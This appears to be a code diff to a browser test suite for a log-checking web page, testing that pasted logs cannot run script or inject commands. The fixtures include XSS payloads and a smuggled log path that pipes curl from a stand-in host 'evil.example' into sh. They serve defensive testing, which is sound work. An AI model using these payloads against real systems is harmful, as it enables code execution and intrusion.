@@ -33,10 +33,14 @@ describe.runIf(status === "run")("the checker is safe and private", () => {
     expect(text).toContain(`<img src=x onerror="window.__pwned=1;alert(1)">`);
     expect(text).toContain("<script>window.__pwned=2;alert(2)</script>");
     expect(text).toContain("<svg onload=alert(4)></svg> &amp; <b>bold</b>");
-    // The captured path, in the values, in the commands and in the share link's field.
+    // The captured path is shown as text (what was detected, the share link's field), but it is not
+    // one plain word, so it is kept out of the commands a reader would paste.
     const path = "/tmp/<img/src=x/onerror=window.__pwned=5;alert(5)>/<script>window.__pwned=6</script>.log";
+    await expect(page.locator("#results .ck-detected").textContent()).resolves.toContain(path);
     const commands = await page.locator("#results pre.command").allTextContents();
-    expect(commands.some((c) => c.includes(path))).toBe(true);
+    expect(commands.some((c) => c.includes("<script>"))).toBe(false);
+    const runc = await page.locator('#results [data-finding="runc-criu-failed"] pre.command').allTextContents();
+    expect(runc.some((c) => c.includes("{logPath}"))).toBe(true);
     expect(decodeURIComponent(await page.locator("#share-url").inputValue())).toContain(path);
     const logView = (await page.locator("#logview-scroller").textContent()) ?? "";
     expect(logView).toContain(`<img src=x onerror="window.__pwned=1;alert(1)">`);
@@ -44,6 +48,15 @@ describe.runIf(status === "run")("the checker is safe and private", () => {
     await page.waitForTimeout(200);
     await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined();
     expect(requests).toEqual([]);
+  });
+
+  it("keeps a wrapper's log path that is not a plain word out of the command to read it", async () => {
+    const { page } = await checker.open();
+    const path = "/tmp/x;curl${IFS}evil.example|sh.log";
+    await paste(page, `ERRO[0000] criu failed: type NOTIFY errno 0\nlog file: ${path}\n`);
+    await diagnosed(page);
+    await expect(page.locator("#results .ck-wrapper__path").textContent()).resolves.toBe(path);
+    await expect(page.locator("#results .ck-wrapper pre.command").textContent()).resolves.toBe("sudo cat {logPath}");
   });
 
   it("makes no request while checking a pasted, dropped or opened log, nor while showing it", async () => {
